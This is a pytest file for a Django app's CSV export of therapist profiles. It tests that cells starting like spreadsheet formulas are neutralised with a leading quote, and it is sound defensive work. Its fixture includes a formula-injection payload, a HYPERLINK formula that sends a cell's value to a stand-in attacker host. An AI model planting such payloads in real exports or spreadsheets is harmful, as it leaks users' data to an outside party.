"""CSV exports: every cell a spreadsheet would take for a formula is neutralised."""

import csv
import io

import pytest
from django.urls import reverse

from consistency.reporting.results import refresh_results
from tests.factories import make_therapist

pytestmark = pytest.mark.django_db(databases=["default", "platform"])

FORMULAS = {
    "eq@example.com": '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "plus@example.com": "+1+1",
    "minus@example.com": "-2+3",
    "at@example.com": "@SUM(1,2)",
    "tab@example.com": "\t=1+1",
    "cr@example.com": "\r=1+1",
}


def export(client, problem, query=""):
    response = client.get(reverse("consistency:drilldown", args=[problem]) + "?_export=csv" + query)
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_a_cell_beginning_like_a_formula_is_exported_as_text(viewer_client):
    for email, bio in FORMULAS.items():
        make_therapist(email, profile={"bio": bio})
    refresh_results()

    rows = export(viewer_client, "bio", "&sort=email")

    header = rows[0]
    profile_bio = {row[0]: row[header.index("Profile bio")] for row in rows[1:]}
    assert profile_bio == {email: "'" + bio for email, bio in FORMULAS.items()}


def test_a_harmless_cell_is_exported_as_it_is(viewer_client):
    make_therapist("plain@example.com", profile={"bio": "Helps with 1-2 sessions = fine"})
    refresh_results()
    [header, row] = export(viewer_client, "bio")
    assert row[header.index("Profile bio")] == "Helps with 1-2 sessions = fine"


def test_every_text_column_is_neutralised_emails_and_lists_included(viewer_client):
    make_therapist("=cmd@example.com", profile={"specializations": ["@Anxiety", "Grief"]})
    refresh_results()
    [header, row] = export(viewer_client, "specializations")
    assert row[0] == "'=cmd@example.com"
    assert "'@Anxiety; Grief" in row
